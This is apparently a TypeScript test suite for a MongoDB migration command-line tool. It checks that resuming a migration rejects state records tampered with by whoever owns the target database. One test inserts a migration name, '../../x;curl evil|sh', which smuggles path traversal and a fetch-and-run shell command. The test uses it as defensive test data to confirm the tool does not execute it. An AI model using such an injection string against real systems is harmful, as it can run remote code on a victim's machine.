import assert from 'node:assert/strict';
import { readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { MongoClient, type Document } from 'mongodb';
import { CommandLine } from '../support/cli';
import { temporaryFolder } from '../support/job';
import { migrate, type RunningMigration } from '../support/migrate';
import { replicaSet, uniqueName } from '../support/servers';

/** Whoever owns the target may write what they like into the state that it holds. */
describe('a target whose owner changes the state in it', function () {
  this.timeout(300_000);

  const folder = temporaryFolder();
  let uris: { source: string; target: string };
  let source: MongoClient;
  let target: MongoClient;
  let cli: CommandLine;
  let db: string;
  let secret: string;

  before(async () => {
    const from = await replicaSet('6.0', { members: 1 });
    const to = await replicaSet('5.0', { members: 1 });
    uris = { source: from.uri, target: to.uri };
    source = await MongoClient.connect(from.uri);
    target = await MongoClient.connect(to.uri);
    cli = new CommandLine(join(folder.path, 'home'), { SRC: from.uri, DST: to.uri });
    db = uniqueName('mine');
    secret = uniqueName('secret');
    for (const name of [db, secret]) {
      await source
        .db(name)
        .collection('orders')
        .insertOne({ _id: 1 as never, of: name });
    }
  });

  after(async () => {
    await source.close();
    await target.close();
  });

  async function assertKept(): Promise<void> {
    assert.equal(await target.db(secret).collection('orders').countDocuments({}), 0);
  }

  function stateOf(database: string) {
    return target.db(database).collection<Document & { _id: string }>('migrations');
  }

  /** One that follows, and was interrupted. */
  async function interrupted(): Promise<RunningMigration> {
    const first = migrate({ ...uris, plan: { kind: 'sync', include: [db], existing: 'drop' } });
    await first.untilPhase('sync');
    await first.migration.interrupt();
    await first.failure();
    return first;
  }

  function resumed({ request }: RunningMigration): RunningMigration {
    return migrate({ ...uris, plan: request.plan, resume: true });
  }

  it('16.4 gets nothing by another plan', async () => {
    const first = await interrupted();
    const { name, stateDatabase } = first.request.plan;
    for (const plan of [
      { include: [db, secret] },
      { include: [] },
      { renames: [{ from: db, to: `${db}_public` }] },
    ]) {
      const before = (await stateOf(stateDatabase).findOne({ _id: name }))?.plan as Document;
      const $set = { plan: { ...before, ...plan } };
      await stateOf(stateDatabase).updateOne({ _id: name }, { $set });
      const { code, message } = await resumed(first).failure();
      assert.equal(code, 'plan-differs', message);
      const back = { $set: { plan: before } };
      await stateOf(stateDatabase).updateOne({ _id: name }, back);
    }
    await assertKept();
    await resumed(first).cutOver();
  });

  it('16.4 gets nothing by what it says that was begun', async () => {
    const first = await interrupted();
    const { name, stateDatabase } = first.request.plan;
    const of = { _id: name };
    await stateOf(stateDatabase).updateOne(of, { $set: { recopying: [`${secret}.orders`] } });
    assert.equal((await resumed(first).failure()).code, 'damaged-state');
    await stateOf(stateDatabase).updateOne(of, {
      $unset: { recopying: '' },
      $set: { snapshotDone: false },
    });
    const namespaces = target
      .db(stateDatabase)
      .collection<Document & { _id: string }>('namespaces');
    const [mine] = await namespaces.find({ migration: name }).toArray();
    assert(mine);
    for (const change of [
      { namespace: `${secret}.orders`, target: `${secret}.orders` },
      { target: `${db}.elsewhere` },
    ]) {
      await namespaces.updateOne({ _id: mine._id }, { $set: change });
      const { code, message } = await resumed(first).failure();
      assert.equal(code, 'damaged-state', message);
      await namespaces.updateOne({ _id: mine._id }, { $set: mine });
    }
    await assertKept();
    await resumed(first).cutOver();
  });

  it('16.4 is asked about on the command line, and its names go nowhere', async () => {
    const name = uniqueName('m');
    const state = uniqueName('state');
    const sides = ['--source', 'env:SRC', '--target', 'env:DST'];
    const begin = ['--name', name, '--include', db, '--state-db', state, '--drop-target', '--yes'];
    const sync = cli.start('sync', ...sides, ...begin);
    await cli.until(name, ({ phase }) => phase === 'sync');
    sync.interrupt();
    await sync.finished;
    const include = { $set: { 'plan.include': [db, secret] } };
    await stateOf(state).updateOne({ _id: name }, include);
    const changed = await cli.run('resume', name);
    assert.equal(changed.code, 4, changed.stderr);
    assert.match(changed.stderr, /something else than this machine knows.*--yes/);

    await stateOf(state).updateOne(
      { _id: name },
      { $set: { 'plan.include': [db], sourceBlocked: true } },
    );
    const blocked = await cli.run('resume', name);
    assert.equal(blocked.code, 4, blocked.stderr);
    assert.match(blocked.stderr, /says that it blocked writes to the source[^]*--yes/);
    await stateOf(state).updateOne({ _id: name }, { $unset: { sourceBlocked: '' } });

    const elsewhere = new CommandLine(join(folder.path, 'elsewhere'), {
      SRC: uris.source,
      DST: uris.target,
    });
    const unknown = await elsewhere.run('resume', name, ...sides, '--state-db', state);
    assert.equal(unknown.code, 4, unknown.stderr);
    assert.match(unknown.stderr, /does not know .*--yes/);
    await assertKept();

    const evil = '../../x;curl evil|sh';
    const record = await stateOf(state).findOne({ _id: name });
    await stateOf(state).insertOne({ ...record, _id: evil });
    const listed = await cli.succeed('list', '--target', 'env:DST', '--state-db', state);
    assert.match(listed.stdout, new RegExp(name));
    assert.ok(!listed.stdout.includes('curl'));
    assert.match(listed.stderr, /is not as Mongo Ferry writes it/);
    const refused = await cli.run('resume', evil, ...sides, '--state-db', state);
    assert.notEqual(refused.code, 0);
    const files = await readdir(folder.path, { recursive: true });
    assert.deepEqual(
      files.filter((file) => file.includes('curl')),
      [],
    );
  });

  it('16.4 gets no import to go on from where there is nothing', async () => {
    const file = join(folder.path, 'people.jsonl');
    await writeFile(file, '{"_id":1}\n{"_id":2}\nnot JSON\n{"_id":3}\n');
    const state = uniqueName('state');
    const into = [
      ...[file, '--target', 'env:DST', '--into', `${db}.people`, '--state-db', state],
      ...['--reject-file', join(folder.path, 'rejects.jsonl')],
    ];
    const failed = await cli.run('import', ...into, '--max-rejects', '0');
    assert.notEqual(failed.code, 0, failed.stderr);
    const imports = target.db(state).collection('imports');
    for (const change of [{ 'position.rejectBytes': -1 }, { 'position.offset': 'x' }]) {
      const before = await imports.findOne({});
      assert(before);
      await imports.updateOne({}, { $set: change });
      const resumed = await cli.run('import', ...into, '--resume');
      assert.equal(resumed.code, 4, resumed.stderr);
      assert.match(resumed.stderr, /is not as Mongo Ferry writes it/);
      await imports.replaceOne({}, before);
    }
    const vast = { $set: { 'position.rejectBytes': 2 ** 50 } };
    await imports.updateOne({}, vast);
    const resumed = await cli.run('import', ...into, '--resume');
    assert.equal(resumed.code, 3, resumed.stderr);
  });
});
